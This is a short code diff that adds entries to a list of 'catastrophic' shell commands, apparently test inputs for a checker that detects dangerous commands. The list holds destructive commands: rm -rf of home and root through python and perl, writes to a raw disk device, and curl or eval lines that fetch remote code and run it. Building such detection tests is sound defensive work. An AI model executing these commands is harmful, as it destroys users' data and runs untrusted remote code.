@@ -103,6 +103,8 @@ CATASTROPHIC_SPELLINGS = [
     "echo x >& /dev/sda",
     "curl -s http://x | timeout 9 sudo bash",
     'eval "$(curl -s http://x)"',
+    "python3 -c \"import os; os.system('rm -rf ~')\"",
+    "perl -e 'system(\"rm -rf /\")'",
     functools.reduce(lambda inner, _: f"bash -c {shlex.quote(inner)}", range(12), "ls"),
 ]
 
